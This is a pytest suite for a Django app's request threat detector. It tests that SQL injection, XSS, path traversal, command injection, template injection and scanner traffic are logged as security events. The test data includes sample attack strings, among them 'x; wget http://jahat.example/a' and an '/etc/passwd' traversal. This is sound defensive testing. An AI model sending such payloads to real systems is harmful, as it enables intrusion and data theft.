"""Attacks in requests: told beside the request, with the same id, and never in their way."""

import json
from collections.abc import Callable
from typing import Any

import pytest
from asgiref.sync import async_to_sync
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import AsyncClient, Client

from eventlog.capture import threats
from eventlog.models import Event

pytestmark = pytest.mark.django_db
Find = Callable[..., Event]
INJECTION = "1' OR '1'='1"
SCRIPT = "<script>alert(1)</script>"


def security(event_type: str) -> Event:
    return Event.objects.get(event_type=event_type)


def kinds() -> list[str]:
    return list(
        Event.objects.filter(event_category="SECURITY").order_by("event_type").values_list("event_type", flat=True)
    )


def test_an_attack_in_the_query_is_an_event_of_its_own(client: Client, request_event: Find) -> None:
    client.get("/try/whoami/", {"q": INJECTION})
    event = security("SQL_INJECTION")
    assert (event.request_id, event.endpoint) == (request_event().request_id, "/try/whoami/")


def test_the_requests_own_event_says_what_was_found(client: Client, request_event: Find) -> None:
    client.get("/try/whoami/", {"q": INJECTION})
    (threat,) = request_event().threats
    assert (threat["kind"], threat["place"], threat["excerpt"]) == ("sqli", "query q", INJECTION.lower())
    assert request_event().risk_score == threat["score"] >= 75


def test_an_ordinary_request_has_no_threats(client: Client, request_event: Find) -> None:
    client.get("/try/whoami/", {"nama": "Siti Nur'aini", "kelas": "X-1", "urut": "-nilai"})
    assert (request_event().threats, request_event().risk_score, kinds()) == ([], None, [])


@pytest.mark.parametrize(
    ("query", "event_type"),
    [
        (INJECTION, "SQL_INJECTION"),
        (SCRIPT, "XSS"),
        ("../../../etc/hostname", "PATH_TRAVERSAL"),
        ("x; wget http://jahat.example/a", "COMMAND_INJECTION"),
        ("{{7*7}}", "TEMPLATE_INJECTION"),
    ],
)
def test_each_kind_has_its_type(client: Client, query: str, event_type: str) -> None:
    client.get("/try/whoami/", {"q": query})
    assert kinds() == [event_type]


def test_one_event_a_kind_however_many_values(client: Client) -> None:
    client.get("/try/whoami/", {"a": INJECTION, "b": INJECTION, "c": SCRIPT})
    assert kinds() == ["SQL_INJECTION", "XSS"]
    assert len(security("SQL_INJECTION").threats) == 2


def test_the_answer_is_the_same(client: Client) -> None:
    plain, attacked = client.get("/try/whoami/"), client.get("/try/whoami/", {"q": SCRIPT})
    assert (attacked.status_code, attacked.content) == (plain.status_code, plain.content)


@pytest.mark.parametrize(
    ("value", "where"),
    [
        ({"isi": {"bagian": [SCRIPT]}}, "body bagian"),
        ({SCRIPT: 1}, "body"),
        ([{"a": 1}, {"b": SCRIPT}], "body b"),
    ],
)
def test_values_and_keys_of_json_are_looked_at(client: Client, request_event: Find, value: Any, where: str) -> None:
    client.post("/try/loads/", json.dumps(value), content_type="application/json")
    assert [threat["place"] for threat in request_event().threats] == [where]


def test_a_form_is_looked_at(client: Client) -> None:
    client.post("/try/form/", {"isi": SCRIPT})
    assert kinds() == ["XSS"]


def test_a_body_that_the_view_did_not_read_is_not_looked_at(client: Client, request_event: Find) -> None:
    client.post("/try/unread/", json.dumps({"isi": SCRIPT}), content_type="application/json")
    assert request_event().threats == []


def test_names_of_files_are_looked_at(client: Client) -> None:
    client.post("/try/upload/", {"file": SimpleUploadedFile("x' or '1'='1'-- .pdf", b"%PDF")})
    assert "SQL_INJECTION" in kinds()


@pytest.mark.parametrize("header", ["User-Agent", "Referer", "X-Forwarded-Host", "X-Anything"])
def test_headers_are_looked_at(client: Client, request_event: Find, header: str) -> None:
    client.get("/try/whoami/", headers={header: SCRIPT})
    assert [threat["place"] for threat in request_event().threats] == [f"header {header}"]


def test_cookies_are_looked_at_but_for_the_sessions(client: Client, request_event: Find) -> None:
    client.cookies["tema"] = "1%27%20or%20%271%27=%271"
    client.cookies["sessionid"] = "1%27%20or%20%271%27=%271"
    client.get("/try/whoami/")
    assert [threat["place"] for threat in request_event().threats] == ["cookie tema"]


def test_a_climbing_path_is_told(client: Client) -> None:
    client.get("/unduh/..%252f..%252fetc/passwd")
    assert "PATH_TRAVERSAL" in kinds()


def test_a_scanner_is_told_by_its_name(client: Client) -> None:
    client.get("/try/whoami/", headers={"User-Agent": "sqlmap/1.7#stable (https://sqlmap.org)"})
    assert kinds() == ["SCANNER"]


def test_a_scanners_path_counts_only_where_there_is_no_such_page(client: Client) -> None:
    client.get("/.env")
    assert kinds() == ["SCANNER"]


def test_a_page_of_the_site_is_no_scanners_path() -> None:
    found = [threats.Threat(each, "path", True, True) for each in threats.findings("/.env", "path")]
    assert found
    assert all(map(threats.only_asked_for, found))


@pytest.mark.parametrize(
    ("path", "severity"), [("/try/status/200/", "high"), ("/try/status/404/", "medium"), ("/try/status/500/", "high")]
)
def test_what_was_refused_is_less_severe(client: Client, path: str, severity: str) -> None:
    client.get(path, {"q": INJECTION})
    assert security("SQL_INJECTION").severity == severity


def test_passwords_are_not_looked_at(client: Client, request_event: Find) -> None:
    client.post("/try/form/", {"password": INJECTION, "new_password1": INJECTION})
    assert request_event().threats == []


def test_of_a_sensitive_field_there_is_no_excerpt(client: Client) -> None:
    client.post("/try/form/", {"email": f"ada@example.com{INJECTION}"})
    (threat,) = security("SQL_INJECTION").threats
    assert (threat["place"], threat["excerpt"]) == ("body email", "")


def test_of_what_is_typed_to_sign_in_there_is_no_excerpt(client: Client) -> None:
    client.post("/admin/login/", {"username": INJECTION, "password": "x"})
    assert {threat["excerpt"] for threat in security("SQL_INJECTION").threats} == {""}


def test_an_excerpt_is_redacted(client: Client) -> None:
    client.get("/try/whoami/", {"q": "1 or 1=1 token=abcdef1234567890abcdef -- "})
    assert "abcdef1234567890" not in str(list(Event.objects.values()))


def test_an_excerpt_holds_no_line_breaks(client: Client, request_event: Find) -> None:
    client.get("/try/whoami/", {"q": "x\r\n<script>\r\nalert(1)</script>"})
    assert not any("\n" in threat["excerpt"] for threat in request_event().threats)


def test_an_essay_that_quotes_an_attack_has_no_event_but_a_note(client: Client, request_event: Find) -> None:
    essay = "Pada bab ini kami menulis tentang keamanan data sekolah dan cara menjaganya. " * 8
    client.post("/try/form/", {"isi": f"{essay} Contohnya: SELECT * FROM siswa. {essay}"})
    assert kinds() == []


def test_more_values_than_are_looked_at_are_said_to_be_left_out(client: Client, request_event: Find) -> None:
    client.post("/try/loads/", json.dumps(["abc"] * 499 + [{"x": ["abc"] * 9}]), content_type="application/json")
    assert "scan_truncated" in request_event().tags


def test_time_runs_out(client: Client, request_event: Find, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(threats, "MAX_SECONDS", -1)
    client.get("/try/whoami/", {"q": "a" * threats.CLOCK_EVERY + INJECTION})
    assert "scan_timeout" in request_event().tags


def test_a_fault_of_the_detector_leaves_the_request_recorded(
    client: Client, request_event: Find, event_log: Callable[..., None], monkeypatch: pytest.MonkeyPatch
) -> None:
    event_log(RAISE_ERRORS=False)
    monkeypatch.setattr(threats, "look", lambda *_: 1 / 0)
    assert client.get("/try/whoami/").status_code == 200
    assert request_event().response_status == 200


def test_it_is_the_same_on_the_event_loop(async_client: AsyncClient) -> None:
    async_to_sync(async_client.get)("/try/awhoami/", {"q": INJECTION})
    assert kinds() == ["SQL_INJECTION"]
